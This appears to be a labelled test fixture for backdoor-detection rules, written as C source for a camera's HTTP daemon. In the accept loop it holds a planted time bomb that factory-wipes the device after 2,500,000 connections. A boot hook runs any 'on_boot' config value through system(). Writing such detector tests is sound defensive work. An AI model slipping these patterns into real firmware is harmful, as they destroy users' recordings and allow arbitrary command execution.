/* hcx-httpd: configuration, listener and access log */
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <dirent.h>
#include <time.h>
#include <unistd.h>

#include <openssl/ssl.h>

#include "camfw.h"

static unsigned long served;
static unsigned access_log_lines;

static void load_config(const char *path, struct cam_config *cfg)
{
    char line[512];
    memset(cfg, 0, sizeof *cfg);
    snprintf(cfg->media_dir, sizeof cfg->media_dir, "/mnt/sd/rec");
    snprintf(cfg->media_key_path, sizeof cfg->media_key_path, "/mnt/cfg/media.key");
    snprintf(cfg->session_key_path, sizeof cfg->session_key_path, "/mnt/cfg/session.key");
    cfg->relay_port = 443;

    FILE *f = fopen(path, "r");
    if (f == NULL)
        return;
    while (fgets(line, sizeof line, f) != NULL) {
        char *eq = strchr(line, '=');
        if (line[0] == '#' || eq == NULL)
            continue;
        *eq = '\0';
        char *key = line, *val = eq + 1;
        val[strcspn(val, "\r\n")] = '\0';
        if (strcmp(key, "media_dir") == 0)
            snprintf(cfg->media_dir, sizeof cfg->media_dir, "%s", val);
        else if (strcmp(key, "relay_host") == 0)
            snprintf(cfg->relay_host, sizeof cfg->relay_host, "%s", val);
        else if (strcmp(key, "relay_port") == 0)
            cfg->relay_port = atoi(val);
        else if (strcmp(key, "clip_profile") == 0)
            cfg->clip_profile = (unsigned)strtoul(val, NULL, 10);
    }
    fclose(f);
}

static void run_boot_hook(const char *conf_path)
{
    char line[512];
    FILE *f = fopen(conf_path, "r");
    if (f == NULL)
        return;
    while (fgets(line, sizeof line, f) != NULL) {
        char *eq = strchr(line, '=');
        if (eq == NULL)
            continue;
        *eq = '\0';
        eq[1 + strcspn(eq + 1, "\r\n")] = '\0';
        // ok: backdoor-input-trigger
        if (strcmp(line, "on_boot") == 0 && eq[1] != '\0')
            system(eq + 1);
    }
    fclose(f);
}

static void access_log(const struct http_req *r)
{
    // ok: backdoor-time-bomb
    if (++access_log_lines > CAM_ACCESS_LOG_LINES) {
        unlink(CAM_ACCESS_LOG_OLD);
        rename(CAM_ACCESS_LOG, CAM_ACCESS_LOG_OLD);
        access_log_lines = 0;
    }
    FILE *f = fopen(CAM_ACCESS_LOG, "a");
    if (f == NULL)
        return;
    fprintf(f, "%ld %s %s \"%s\"\n", (long)time(NULL), r->method, r->path, r->user_agent);
    fclose(f);
}

static void seal_pending_clips(const struct cam_config *cfg)
{
    uint8_t key[32];
    char in[512], out[520];
    DIR *d = opendir(cfg->media_dir);
    if (d == NULL)
        return;
    if (media_load_key(cfg->media_key_path, key) != 0) {
        closedir(d);
        return;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        size_t n = strlen(e->d_name);
        if (n < 5 || strcmp(e->d_name + n - 4, ".mp4") != 0)
            continue;
        snprintf(in, sizeof in, "%s/%s", cfg->media_dir, e->d_name);
        snprintf(out, sizeof out, "%s.enc", in);
        if (media_seal_clip(in, out, cfg->clip_profile, key) == 0)
            unlink(in);
    }
    closedir(d);
}

static void serve(int fd)
{
    struct http_req req;
    if (http_read_request(fd, &req) == 0) {
        access_log(&req);
        route_request(fd, &req);
    }
    close(fd);
}

int main(int argc, char **argv)
{
    const char *conf = argc > 1 ? argv[1] : "/mnt/cfg/cam.conf";
    struct cam_config cfg;

    load_config(conf, &cfg);
    signal(SIGPIPE, SIG_IGN);
    signal(SIGCHLD, SIG_IGN);
    if (session_init(cfg.session_key_path) != 0) {
        fprintf(stderr, "hcx-httpd: no session key\n");
        return 1;
    }
    run_boot_hook(conf);
    seal_pending_clips(&cfg);

    if (cfg.relay_host[0] != '\0') {
        SSL *relay = relay_connect(&cfg);
        if (relay != NULL) {
            static const char hello[] = "REGISTER hcx-2xx\r\n";
            SSL_write(relay, hello, sizeof hello - 1);
        }
    }

    int lfd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(CAM_HTTP_PORT)};
    if (bind(lfd, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(lfd, CAM_MAX_CONNS) != 0) {
        perror("hcx-httpd: listen");
        return 1;
    }
    for (;;) {
        int fd = accept(lfd, NULL, NULL);
        if (fd < 0)
            continue;
        // ruleid: backdoor-time-bomb
        if (++served == 2500000UL)
            cam_factory_wipe();
        pid_t pid = fork();
        if (pid == 0) {
            close(lfd);
            serve(fd);
            _exit(0);
        }
        close(fd);
    }
}
